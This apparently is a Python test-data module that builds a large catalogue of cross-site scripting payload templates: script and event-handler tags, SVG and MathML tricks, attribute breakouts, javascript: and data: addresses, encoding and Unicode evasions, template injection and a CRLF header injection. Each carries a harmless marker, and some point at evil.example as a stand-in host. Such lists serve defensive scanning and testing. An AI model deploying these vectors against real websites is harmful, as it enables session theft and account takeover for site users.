"""Texts that try to become a part of the page: tags, attributes, addresses, styles, SVG, odd letters, templates.

Each carries MARK, so that a page can be asked where it ended up.
"""

from typing import Final

MARK: Final = "xss7391"

_TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<script src=//x/{}></script>",
    "<script/x>{}</script>", "<<script>{}//<</script>", "<script\n>{}</script>", "<scr<script>ipt>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "</noscript><script>{}</script>", "<img src=x onerror={}>",
    "<img src=x onerror='{}'>", '<img src="x" onerror="{}">', "<img/src=x/onerror={}>", "<img src=`x` onerror={}>",
    "<img srcset=x onerror={}>", "<image src=x onerror={}>", "<body onload={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<frameset onload={}>", "<object data=javascript:{}>", "<embed src={}>",
    "<applet code={}>", "<base href=//{}/>", "<link rel=stylesheet href=//{}>", "<meta http-equiv=refresh content=0;{}>",
    "<form action=javascript:{}><button>x", "<button formaction=javascript:{}>x", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>",
    "<video><source onerror={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>", "<details open ontoggle={}>",
    "<marquee onstart={}>", "<a href=javascript:{}>x</a>", "<a href=' javascript:{}'>x</a>", "<a href=data:text/html,{}>x",
    "<a href='vbscript:{}'>x</a>", "<table background=javascript:{}>", "<isindex action=javascript:{}>", "<x onclick={}>",
    "<dialog open onclose={}>", "<template><script>{}</script></template>", "<slot onslotchange={}>", "<portal src={}>",
]  # fmt: skip
_SVG = [
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><a xlink:href=javascript:{}>x",
    "<svg><animate onbegin={} attributeName=x>", "<svg><set onbegin={}>", "<svg><use href=data:image/svg+xml,{}>",
    "<svg><foreignObject><img src=x onerror={}>", "<math><mtext></form><form><mglyph><style></math><img onerror={}>",
    "<math href=javascript:{}>x", "<svg><style>{{}}</style><img src=x onerror={}>", "<svg><title><script>{}</script>",
]  # fmt: skip
_ATTRIBUTES = [
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus="{}', "` onmouseover=`{}", '"><script>{}</script>',
    "'><script>{}</script>", '"/><svg onload={}>', '" style="background:url(javascript:{})', '" srcdoc="{}', "x onclick={} y",
    '" hx-get="//{}" hx-trigger="load', "' hx-on:click='{}", '<div hx-get="/{}" hx-trigger=load>', "<b data-hx-on=\"{}\">",
    '" formaction="javascript:{}', '"\n onclick="{}', '"\tonclick="{}', '"/onclick="{}', "\\\" onclick=\\\"{}",
]  # fmt: skip
_STYLES = [
    "<style>*{{x:url({})}}</style>", "<style>@import '//{}';</style>", "</style><style>@import'{}'", "<p style=x:expression({})>",
    "<div style='background:url(//{})'>", "<style>{}", "}}</style><svg onload={}>",
]  # fmt: skip
_ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "javascript&colon;{}", "&#106;avascript:{}",
    "data:text/html;base64,{}", "//evil.example/{}", "\\\\evil.example\\{}", "https://evil.example/{}", "x:{}", "blob:{}",
]  # fmt: skip
_LETTERS = [
    "＜script＞{}＜/script＞", "‹img onerror={}›", "<img onerror={}>", "\ufeff<svg onload={}>", "<ſcript>{}</ſcript>",
    "<ımg src=x onerror={}>", "é<b onclick={}>", "ẞ\"onclick={}", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}",
    "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;img onerror={}&gt;", "+ADw-script+AD4-{}", "&#60;script&#62;{}",
]  # fmt: skip
_CODE = [
    "{{{{{}}}}}", "{{%{}%}}", "${{{}}}", "#{{{}}}", "<%={}%>", "{{{{constructor.constructor('{}')()}}}}", "[[{}]]", "`${{{}}}`",
    "';{}//", "\";{}//", "\\';{}//", "*/{}/*", "</script>{}", "<!--{}-->", "<![CDATA[{}]]>", "<?php {}?>", "<?xml {}?>",
    "BEGIN:VEVENT {}", "SUMMARY:{}", "[x](javascript:{})", "![x](x'onerror={})", "=HYPERLINK({})", "{}\r\nSet-Cookie: a=b",
]  # fmt: skip

VECTORS: Final = tuple(
    each.format(MARK)
    for family in (_TAGS, _SVG, _ATTRIBUTES, _STYLES, _ADDRESSES, _LETTERS, _CODE)
    for each in family
)
